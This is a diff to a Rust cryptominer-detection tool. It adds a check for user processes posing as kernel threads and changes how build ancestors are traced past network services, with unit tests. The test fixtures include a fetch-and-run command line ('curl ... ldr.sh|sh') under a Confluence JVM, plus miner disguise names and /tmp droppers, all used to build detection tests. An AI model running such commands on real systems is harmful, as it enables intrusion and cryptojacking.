@@ -193,8 +193,10 @@ pub fn scripts_run(p: &ProcessRecord) -> Vec<Vec<u8>> {
     }
 }
 
-/// The nearest ancestor (up to 32 levels) that is a build or CPU-heavy tool (`cpu_heavy_tool`: cargo,
-/// make, go, a compiler): a test or build binary it started runs from temporary directories by design.
+/// The nearest ancestor (up to 32 levels) that is a build tool (`build_tool`: cargo, make, go, a
+/// compiler): a test or build binary it started runs from temporary directories by design. A network
+/// service met first ends the walk: what a service (Tomcat's `java`, `postgres`, `node`) started is the
+/// service's doing, never a compile, whatever builds sit above the service.
 pub fn build_ancestor(ctx: &Context, p: &ProcessRecord) -> Option<String> {
     let mut pid = p.ppid;
     for _ in 0..32 {
@@ -202,12 +204,22 @@ pub fn build_ancestor(ctx: &Context, p: &ProcessRecord) -> Option<String> {
             return None;
         }
         let q = ctx.model.process(pid)?;
-        if let Some((name, _)) = name_in(ctx, Kind::CpuHeavyTool, &Names::of(q)) {
+        let names = Names::of(q);
+        if let Some((name, _)) = name_in(ctx, Kind::BuildTool, &names) {
             return Some(name);
+        }
+        if service_of(ctx.iocs, q, &names).is_some() {
+            return None;
         }
         pid = q.ppid;
     }
     None
+}
+
+/// Whether a program legitimately burns CPU: a build tool or another `cpu_heavy_tool`.
+pub fn cpu_heavy(ctx: &Context, names: &Names) -> bool {
+    name_in(ctx, Kind::BuildTool, names).is_some()
+        || name_in(ctx, Kind::CpuHeavyTool, names).is_some()
 }
 
 /// Why a process's executable sits somewhere programs do not normally run from; empty when it does not.
@@ -283,6 +295,50 @@ pub fn package_owned(model: &HostModel, path: &[u8]) -> bool {
 /// A kernel thread: no executable and a child of kthreadd (or kthreadd itself).
 pub fn is_kernel_thread(p: &ProcessRecord) -> bool {
     p.exe.is_none() && (p.ppid == 2 || p.pid == 2 || (p.ppid == 0 && p.pid != 1))
+}
+
+/// How a user process wears a kernel thread's clothes ([`kthread_disguise`]).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct KthreadDisguise {
+    /// `argv[0]` in the bracketed form `ps` shows kernel threads in (`[kworker/0:2]`).
+    pub bracketed: Option<String>,
+    /// A name of the process (comm, `argv[0]` inside its brackets, the executable's name) and the
+    /// `kthread_name` prefix it starts with (`kswapd0`, `kworker`).
+    pub name: Option<(String, String)>,
+}
+
+/// A process that is not a kernel thread ([`is_kernel_thread`]: no executable, child of kthreadd) but
+/// looks like one: a bracketed `argv[0]` or a name a kernel thread's starts with. The one test every
+/// detector reads (a miner's favourite disguise: `[kswapd0]`, `kworkerds`).
+pub fn kthread_disguise(
+    ctx: &Context,
+    p: &ProcessRecord,
+    names: &Names,
+) -> Option<KthreadDisguise> {
+    if is_kernel_thread(p) {
+        return None;
+    }
+    let bracketed = names
+        .argv0_full
+        .as_deref()
+        .filter(|a| a.len() > 2 && a.starts_with('[') && a.ends_with(']'));
+    let inner = bracketed.map(|a| a.trim_start_matches('[').trim_end_matches(']'));
+    let name = [Some(names.comm.as_str()), inner, names.exe.as_deref()]
+        .into_iter()
+        .flatten()
+        .find_map(|n| {
+            ctx.iocs
+                .set(Kind::KthreadName)
+                .find(|k| n.starts_with(*k))
+                .map(|k| (n.to_owned(), k.to_owned()))
+        });
+    if bracketed.is_none() && name.is_none() {
+        return None;
+    }
+    Some(KthreadDisguise {
+        bracketed: bracketed.map(str::to_owned),
+        name,
+    })
 }
 
 /// CPU use over a process's lifetime.
@@ -597,6 +653,155 @@ pub fn severity_of(score: u32) -> minetrace_schemas::findings::Severity {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn kernel_thread_disguises() {
+        use crate::model::fixture::{model_with_processes, process};
+        let iocs = crate::indicators::Indicators::builtin();
+        let mut kworker = process(80, 2, 0, b"-", &[]);
+        kworker.exe = None;
+        kworker.comm = RawBytes::from(&b"kworker/0:1"[..]);
+        let mut bracketed = process(81, 1, 0, b"/tmp/.x/bash", &[b"[kworker/0:2]"]);
+        bracketed.comm = RawBytes::from(&b"bash"[..]);
+        let named = process(82, 1, 0, b"/tmp/.x/kswapd0", &[b"./kswapd0", b"-c", b"x"]);
+        let kubelet = process(83, 1, 0, b"/usr/bin/kubelet", &[b"/usr/bin/kubelet"]);
+        let model = model_with_processes(vec![], vec![], vec![kworker, bracketed, named, kubelet]);
+        let ctx = Context {
+            model: &model,
+            iocs: &iocs,
+        };
+        let disguise = |pid| {
+            model
+                .process(pid)
+                .and_then(|p| kthread_disguise(&ctx, p, &Names::of(p)))
+        };
+        assert_eq!(disguise(80), None, "a real kernel thread");
+        assert_eq!(
+            disguise(81),
+            Some(KthreadDisguise {
+                bracketed: Some("[kworker/0:2]".into()),
+                name: Some(("kworker/0:2".into(), "kworker".into())),
+            })
+        );
+        assert_eq!(
+            disguise(82).and_then(|d| d.name),
+            Some(("kswapd0".into(), "kswapd".into()))
+        );
+        assert_eq!(disguise(83), None);
+    }
+
+    #[test]
+    fn a_build_tool_excuses_what_it_started_a_service_does_not() {
+        use crate::model::fixture::{model_with_processes, process};
+        let iocs = crate::indicators::Indicators::builtin();
+        let model = model_with_processes(
+            vec![],
+            vec![],
+            vec![
+                // CI: `cargo test` runs an integration test binary from a temp directory.
+                process(
+                    100,
+                    1,
+                    1000,
+                    b"/home/ci/.cargo/bin/cargo",
+                    &[b"cargo", b"test"],
+                ),
+                process(
+                    101,
+                    100,
+                    1000,
+                    b"/tmp/.tmpQ2/target/debug/deps/it-1a2b",
+                    &[b"/tmp/.tmpQ2/target/debug/deps/it-1a2b"],
+                ),
+                // Confluence's JVM runs a shell that runs a dropper from /tmp (CVE-2022-26134's shape).
+                process(
+                    200,
+                    1,
+                    1001,
+                    b"/opt/atlassian/confluence/jre/bin/java",
+                    &[
+                        b"/opt/atlassian/confluence/jre/bin/java",
+                        b"-Dcatalina.base=/opt/atlassian/confluence",
+                        b"org.apache.catalina.startup.Bootstrap",
+                        b"start",
+                    ],
+                ),
+                process(
+                    201,
+                    200,
+                    1001,
+                    b"/usr/bin/bash",
+                    &[b"bash", b"-c", b"curl -s http://203.0.113.7/ldr.sh|sh"],
+                ),
+                process(
+                    202,
+                    201,
+                    1001,
+                    b"/tmp/.x/kdevtmpfsi",
+                    &[b"/tmp/.x/kdevtmpfsi"],
+                ),
+                // An application JVM and PostgreSQL (COPY ... FROM PROGRAM) are no compilers either.
+                process(
+                    300,
+                    1,
+                    1002,
+                    b"/usr/bin/java",
+                    &[b"java", b"-jar", b"/srv/app/app.jar"],
+                ),
+                process(301, 300, 1002, b"/tmp/x", &[b"/tmp/x"]),
+                process(
+                    400,
+                    1,
+                    113,
+                    b"/usr/lib/postgresql/15/bin/postgres",
+                    &[
+                        b"/usr/lib/postgresql/15/bin/postgres",
+                        b"-D",
+                        b"/var/lib/postgresql/15/main",
+                    ],
+                ),
+                process(
+                    401,
+                    400,
+                    113,
+                    b"/usr/bin/dash",
+                    &[b"sh", b"-c", b"/tmp/pg_mem"],
+                ),
+                process(402, 401, 113, b"/tmp/pg_mem", &[b"/tmp/pg_mem"]),
+                // A build a service's job runs (Jenkins -> make -> test binary): the build tool comes first.
+                process(
+                    500,
+                    1,
+                    1003,
+                    b"/usr/bin/java",
+                    &[b"java", b"-jar", b"/usr/share/java/jenkins.war"],
+                ),
+                process(501, 500, 1003, b"/usr/bin/make", &[b"make", b"check"]),
+                process(
+                    502,
+                    501,
+                    1003,
+                    b"/tmp/build/t/unit",
+                    &[b"/tmp/build/t/unit"],
+                ),
+            ],
+        );
+        let ctx = Context {
+            model: &model,
+            iocs: &iocs,
+        };
+        let ancestor = |pid| model.process(pid).and_then(|p| build_ancestor(&ctx, p));
+        assert_eq!(ancestor(101).as_deref(), Some("cargo"));
+        assert_eq!(ancestor(502).as_deref(), Some("make"));
+        assert_eq!(ancestor(202), None, "a dropper under Confluence's java");
+        assert_eq!(ancestor(301), None, "a child of an application JVM");
+        assert_eq!(ancestor(402), None, "a program PostgreSQL ran");
+        // They still burn CPU legitimately.
+        for pid in [100, 200, 400] {
+            let p = model.process(pid).map(Names::of);
+            assert!(p.is_some_and(|n| cpu_heavy(&ctx, &n)), "pid {pid}");
+        }
+    }
 
     #[test]
     fn monero_address_shapes() {
